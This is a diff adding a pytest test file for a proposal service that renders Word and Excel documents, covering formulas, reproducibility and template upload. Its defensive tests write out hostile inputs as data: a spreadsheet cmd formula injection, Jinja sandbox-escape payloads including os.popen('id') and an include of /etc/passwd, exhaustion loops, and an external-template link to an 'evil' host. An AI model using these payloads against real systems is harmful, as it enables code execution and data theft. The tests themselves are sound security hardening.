@@ -1,0 +1,277 @@
+"""Word and workbook: what they say, that they repeat to the byte, and what a hostile template cannot do."""
+
+import io
+import re
+import zipfile
+from decimal import Decimal
+
+import docx
+import pytest
+from python_calamine import CalamineWorkbook
+
+from services.proposal.commands.templates import GOLDEN
+from services.proposal.content.model import ProposalContent
+from services.proposal.document.formats import DOCX, XLSX
+from services.proposal.document.render import RenderingFailed
+from services.proposal.document.word import word
+from services.proposal.document.word_template import shipped_template
+from services.proposal.document.workbook import workbook
+from services.proposal.handlers import on
+from tests.conftest import envelope
+from tests.proposal import samples
+from tests.proposal.test_document import CJK, content_of
+
+LINKED_TEMPLATE = b"""<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/a.dotm"
+ TargetMode="External"/></Relationships>"""
+
+
+def sheets(data):
+    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
+    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
+
+
+def formulas(data):
+    """Every formula with its kept value, by sheet and cell."""
+    found = {}
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        for name in package.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                text = package.read(name).decode()
+                for cell, formula, value in re.findall(r'<c r="([A-Z]+\d+)"[^>]*><f>(.*?)</f><v>(.*?)</v>', text):
+                    found[name, cell] = (formula, float(value))
+    return found
+
+
+def text_of(data):
+    document = docx.Document(io.BytesIO(data))
+    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])
+
+
+def template(*lines):
+    """A Word template of these paragraphs."""
+    document, file = docx.Document(), io.BytesIO()
+    for line in lines:
+        document.add_paragraph(line)
+    document.save(file)
+    return file.getvalue()
+
+
+# -- workbook
+
+
+@pytest.mark.parametrize("language", ["zh", "en"])
+def test_every_total_of_a_workbook_is_a_formula_whose_value_is_right(language):
+    content = content_of("lending", 12)
+
+    data = workbook(content, language)
+
+    rows, found = sheets(data), formulas(data)
+    work = next(sheet for name, sheet in rows.items() if name in {"工作量与报价", "Work and price"})
+    total = sum(row[5] for row in work[1 : 1 + len(content.work)])
+    assert total == pytest.approx(float(sum(line.price for line in content.work)))
+    values = [value for _, value in found.values()]
+    for figure in (content.key_figures.price_excl_tax, content.key_figures.tax, content.key_figures.price_incl_tax):
+        assert float(figure) in values
+    assert sum("SUM(" in formula for formula, _ in found.values()) >= 10
+
+
+def test_the_checks_of_a_workbook_are_zero():
+    content = content_of("permits", 6)
+
+    summary = sheets(workbook(content, "en"))["Summary"]
+
+    checks = {row[0]: row[1] for row in summary if row and str(row[0]).endswith("(must be 0)")}
+    assert len(checks) == 2
+    assert set(checks.values()) == {0}
+
+
+def test_what_begins_like_a_formula_is_text():
+    content = content_of("lending", 3)
+    evil = content.requirements[0].model_copy(update={"title": '=cmd|"/c calc"!A1', "statement": "@SUM(A1)"})
+    content = content.model_copy(update={"requirements": (evil, *content.requirements[1:])})
+
+    data = workbook(content, "en")
+
+    assert sheets(data)["Requirements"][1][1] == '=cmd|"/c calc"!A1'
+    assert not any("cmd" in formula for formula, _ in formulas(data).values())
+
+
+def test_an_english_workbook_has_chinese_only_in_the_clients_words():
+    content = content_of("permits", 6)
+
+    assert CJK.findall(str(sheets(workbook(content, "en")))) == []
+
+
+def test_equal_content_gives_an_equal_workbook():
+    content = content_of("lending", 5)
+
+    assert workbook(content, "zh") == workbook(content, "zh")
+
+
+# -- Word
+
+
+@pytest.mark.parametrize("language", ["zh", "en"])
+async def test_a_word_document_says_every_figure(language):
+    content = content_of("lending", 12)
+
+    text = text_of(await word(content, language, shipped_template()))
+
+    figures = [f"{phase.total:,}" for phase in content.price.phases]
+    figures += [f"{one.amount:,}" for one in content.price.payments] + [content.code, content.version_label]
+    figures += [item.code for item in content.requirements] + [risk.code for risk in content.risks.items]
+    figures += [f"{content.key_figures.price_incl_tax:,}"]
+    assert [figure for figure in figures if figure not in text] == []
+    assert "{{" not in text
+    assert "{%" not in text
+    assert "{currency}" not in text
+
+
+async def test_equal_content_gives_an_equal_word_document():
+    content = content_of("permits", 3)
+
+    assert await word(content, "en", shipped_template()) == await word(content, "en", shipped_template())
+
+
+async def test_what_data_say_is_text_whatever_it_holds():
+    content = content_of("permits", 3)
+    evil = content.model_copy(update={"title": "{{ 7*7 }} <w:br/> & {% raw %}"})
+
+    text = text_of(await word(evil, "en", template("{{ title }}")))
+
+    assert "{{ 7*7 }} <w:br/> & {% raw %}" in text
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("{{ title.__class__.__mro__[1].__subclasses__() }}", "SecurityError"),
+        ("{{ ''.__class__ }}", "SecurityError"),
+        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "SecurityError"),
+        (
+            "{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}",
+            "may have|took longer",
+        ),
+        ("{{ 'x' * 10**10 }}", "may have|MemoryError|took longer"),
+        ("{{ nothing_of_the_kind }}", "UndefinedError"),
+        ("{% include '/etc/passwd' %}", "TypeError|TemplateNotFound|no loader"),
+        ("{% if %}", "TemplateSyntaxError"),
+        ("{{ range(10**9)|list|length }}", "OverflowError|SecurityError"),
+    ],
+)
+async def test_a_hostile_or_broken_template_is_stopped_with_the_reason(line, reason):
+    with pytest.raises(RenderingFailed, match=reason):
+        await word(content_of("permits", 2), "en", template(line))
+
+
+def test_golden_contents_are_of_today():
+    for path in GOLDEN.glob("*.json"):
+        ProposalContent.model_validate_json(path.read_bytes())
+    assert {path.stem for path in GOLDEN.glob("*.json")} == {"lending", "permits"}
+
+
+# -- over HTTP
+
+
+@pytest.fixture
+async def client(start, tmp_path):
+    async with start("proposal", documents_folder=tmp_path) as client:
+        yield client
+
+
+async def drafted(client):
+    found = samples.events("permits", 3)
+    for event in (found.baseline, found.estimate, found.risk, found.price):
+        await on.handle(client.app.state.database, [envelope(event)])
+    return (await client.get("/proposals")).json()["items"][0]
+
+
+async def uploaded(client, data, name="ours"):
+    return await client.post(f"/templates?kind=word&name={name}", content=data)
+
+
+@pytest.mark.parametrize(("form", "media_type"), [("docx", DOCX), ("xlsx", XLSX), ("pdf", "application/pdf")])
+async def test_a_document_is_made_once_and_verified_to_the_byte(client, form, media_type):
+    proposal = await drafted(client)
+    wish = {"proposal_id": proposal["id"], "language": "en", "format": form}
+
+    first = await client.post("/documents", json=wish)
+    again = await client.post("/documents", json=wish)
+    verified = await client.post(f"/documents/{first.json()['id']}/verify")
+
+    assert first.status_code == 201, first.text
+    assert (first.json()["media_type"], again.json()["id"]) == (media_type, first.json()["id"])
+    assert first.json()["file_name"].endswith(f"-en.{form}")
+    assert verified.json()["is_identical"] is True
+    file = await client.get(f"/documents/{first.json()['id']}/file")
+    assert file.headers["content-type"] == media_type
+
+
+async def test_a_tenants_template_is_used_once_it_is_active(client):
+    proposal = await drafted(client)
+    wish = {"proposal_id": proposal["id"], "language": "en", "format": "docx"}
+    before = (await client.post("/documents", json=wish)).json()
+    kept = (await uploaded(client, template("Offer {{ code }} for {{ client.name }}"))).json()
+
+    activated = await client.act(f"/templates/{kept['id']}/activate")
+    after = (await client.post("/documents", json=wish)).json()
+
+    assert activated.json()["status"] == "active"
+    assert after["id"] != before["id"]
+    text = text_of((await client.get(f"/documents/{after['id']}/file")).content)
+    assert text.strip() == f"Offer {proposal['code']} for {proposal['client_name']}"
+    stale = (await client.post(f"/documents/{before['id']}/verify")).json()
+    assert (stale["is_identical"], stale["is_same_engine"]) == (False, False)
+
+
+async def test_the_next_active_template_retires_the_one_before(client):
+    first = (await uploaded(client, template("{{ code }}"))).json()
+    second = (await uploaded(client, template("{{ title }}"))).json()
+    await client.act(f"/templates/{first['id']}/activate")
+
+    await client.act(f"/templates/{second['id']}/activate")
+
+    states = {one["number"]: one["status"] for one in (await client.get("/templates")).json()["items"]}
+    assert states == {1: "retired", 2: "active"}
+
+
+async def test_a_template_that_fails_on_sample_data_is_refused_with_the_reason(client):
+    answer = await uploaded(client, template("{{ our_own_field }}"))
+
+    assert (answer.status_code, answer.json()["code"]) == (422, "template_refused")
+    assert "our_own_field" in answer.json()["detail"]
+
+
+async def test_a_template_with_macros_or_links_to_elsewhere_is_refused(client):
+    harmless = template("{{ code }}")
+    with_macro, with_link = io.BytesIO(), io.BytesIO()
+    for target, name, text in (
+        (with_macro, "word/vbaProject.bin", b"x"),
+        (
+            with_link,
+            "word/_rels/settings.xml.rels",
+            LINKED_TEMPLATE,
+        ),
+    ):
+        with zipfile.ZipFile(io.BytesIO(harmless)) as old, zipfile.ZipFile(target, "w") as new:
+            for member in old.infolist():
+                new.writestr(member, old.read(member))
+            new.writestr(name, text)
+
+    answers = [await uploaded(client, file.getvalue()) for file in (with_macro, with_link)]
+    broken = await uploaded(client, b"PK not a package")
+
+    assert {answer.json()["code"] for answer in (*answers, broken)} == {"template_harmful"}
+
+
+async def test_the_shipped_template_can_be_downloaded_and_uploaded_again(client):
+    shipped = await client.get("/templates:shipped")
+
+    assert (await uploaded(client, shipped.content)).status_code == 201
+
+
+def test_amounts_of_the_golden_contents_add_up():
+    for path in GOLDEN.glob("*.json"):
+        content = ProposalContent.model_validate_json(path.read_bytes())
+        assert sum((one.amount for one in content.price.payments), Decimal(0)) == content.key_figures.price_incl_tax
